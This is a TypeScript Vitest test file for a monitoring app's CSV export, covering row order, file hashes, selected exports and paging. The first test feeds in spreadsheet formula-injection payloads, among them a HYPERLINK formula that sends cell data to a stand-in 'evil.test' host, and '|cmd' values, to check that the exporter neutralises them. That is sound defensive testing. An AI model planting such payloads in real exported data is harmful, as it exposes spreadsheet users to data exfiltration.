import { createHash } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Database } from 'better-sqlite3';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { encodeHex } from '../../../../electron/core/bytes';
import { MATCH_CSV_COLUMNS, exportCsv } from '../../../../electron/monitor/export/csv-export';
import { openDatabase, openStores, type Stores } from '../../../../electron/monitor/store/index';
import { githubSigner, seedMatches, syntheticLog } from './synthetic-log';

let db: Database;
let stores: Stores;
let dir: string;

beforeEach(async () => {
  db = openDatabase(':memory:');
  stores = openStores(db);
  dir = await mkdtemp(join(tmpdir(), 'vigil-csv-'));
});
afterEach(async () => {
  db.close();
  await rm(dir, { recursive: true, force: true });
});

/** RFC 4180 §2, written from the RFC for this test: records of fields, CRLF line ends. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') field += text[++i];
      else quoted = false;
    } else if (c === '"' && field === '') {
      quoted = true;
    } else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  if (quoted || field !== '' || record.length > 0)
    throw new Error('last record not CRLF-terminated');
  return records;
}

describe('exportCsv', () => {
  it('neutralises formulas in attacker-controlled identity cells, end to end', async () => {
    const log = syntheticLog(2);
    const base = githubSigner({
      san: '=HYPERLINK("https://evil.test/?"&A1,"click")',
      ref: '+refs/heads/x',
      trigger: '@SUM(1,2)',
    });
    const signer = {
      ...base,
      extensions: {
        ...base.extensions,
        '1.3.6.1.4.1.57264.1.12': { name: 'Source Repository URI', value: '-2+3|cmd' },
        '1.3.6.1.4.1.57264.1.18': { name: 'Build Config URI', value: '\t=1' },
      },
    };
    seedMatches(stores, log, [
      {
        watchName: 'github:acme/widget',
        classification: 'untrusted',
        signer,
        reason: '=1+1, "quoted"\r\nnext',
      },
    ]);
    const path = join(dir, 'matches.csv');

    const file = await exportCsv(stores, path);

    const [header, row, ...rest] = parseCsv(await readFile(path, 'utf8'));
    expect(rest).toEqual([]);
    expect(header).toEqual([...MATCH_CSV_COLUMNS]);
    const cell = (name: (typeof MATCH_CSV_COLUMNS)[number]) =>
      row![MATCH_CSV_COLUMNS.indexOf(name)];
    expect(cell('identity')).toBe(`'=HYPERLINK("https://evil.test/?"&A1,"click")`);
    expect(cell('ref')).toBe("'+refs/heads/x");
    expect(cell('trigger')).toBe("'@SUM(1,2)");
    expect(cell('repository')).toBe("'-2+3|cmd");
    expect(cell('workflow')).toBe("'\t=1");
    expect(cell('reason')).toBe(`'=1+1, "quoted"\r\nnext`);
    // No cell anywhere starts with a formula character.
    expect(row!.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cell('classification')).toBe('untrusted');
    expect(cell('log_index')).toBe('0');
    expect(file.records).toBe(1);
  });

  it('writes one row per match oldest first, with a hash and size that match the file', async () => {
    const log = syntheticLog(1);
    for (let i = 0; i < 3; i++) {
      seedMatches(stores, log, [{ watchName: `w${i}`, classification: 'unexpected' }]);
    }
    const progress: number[] = [];
    const path = join(dir, 'matches.csv');

    const file = await exportCsv(stores, path, { onProgress: (n) => progress.push(n) });

    const bytes = await readFile(path);
    const rows = parseCsv(bytes.toString('utf8')).slice(1);
    expect(rows.map((r) => [r[0], r[3], r[4], r[5]])).toEqual([
      ['1', '1000', '0', 'w0'],
      ['2', '1001', '1', 'w1'],
      ['3', '1002', '2', 'w2'],
    ]);
    expect(progress).toEqual([1, 2, 3]);
    expect(file).toEqual({
      path,
      bytes: bytes.length,
      records: 3,
      sha256Hex: createHash('sha256').update(bytes).digest('hex'),
    });
    expect(await readdir(dir)).toEqual(['matches.csv']);
  });

  it('exports only the chosen matches', async () => {
    const log = syntheticLog(2);
    seedMatches(
      stores,
      log,
      ['a', 'b', 'c'].map((w) => ({ watchName: w, classification: 'unexpected' as const })),
    );
    const path = join(dir, 'some.csv');
    await exportCsv(stores, path, { matchIds: [3, 1] });
    expect(
      parseCsv(await readFile(path, 'utf8'))
        .slice(1)
        .map((r) => r[5]),
    ).toEqual(['c', 'a']);
    await expect(exportCsv(stores, path, { matchIds: [4] })).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
  });

  it('writes the same rows for all matches, across store pages, as for chosen ones', async () => {
    const log = syntheticLog(1);
    const seeds = Array.from({ length: 1_234 }, (_, i) => ({
      watchName: `w${i % 3}`,
      classification: (['expected', 'unexpected', 'untrusted'] as const)[i % 3]!,
      signer: githubSigner({ ref: `refs/tags/v${i}`, ...(i % 7 === 0 && { trigger: '=cmd' }) }),
    }));
    seedMatches(stores, log, seeds);
    stores.matches.acknowledge(2, 1_700_000_000_000);
    stores.matches.setNote(600, 'first, "second"', 1_700_000_000_001);
    const all = join(dir, 'all.csv');
    const chosen = join(dir, 'chosen.csv');

    // Without matchIds the export reads summaries in keyset pages; with them, one by one.
    await exportCsv(stores, all);
    await exportCsv(stores, chosen, { matchIds: seeds.map((_, i) => i + 1) });

    const text = await readFile(all, 'utf8');
    expect(text).toBe(await readFile(chosen, 'utf8'));
    const rows = parseCsv(text).slice(1);
    expect(rows.map((r) => Number(r[0]))).toEqual(seeds.map((_, i) => i + 1));
    expect(rows[1]![MATCH_CSV_COLUMNS.indexOf('triage')]).toBe('acknowledged');
    expect(rows[599]![MATCH_CSV_COLUMNS.indexOf('note')]).toBe('first, "second"');
    expect(rows[0]![MATCH_CSV_COLUMNS.indexOf('shard_index')]).toBe('0');
    const first = stores.matches.get(1)!;
    expect(rows[0]![MATCH_CSV_COLUMNS.indexOf('leaf_hash')]).toBe(encodeHex(first.leafHash));
    expect(rows[0]![MATCH_CSV_COLUMNS.indexOf('integrated_time')]).toBe(
      new Date(first.integratedTimeMs!).toISOString(),
    );
  });
});
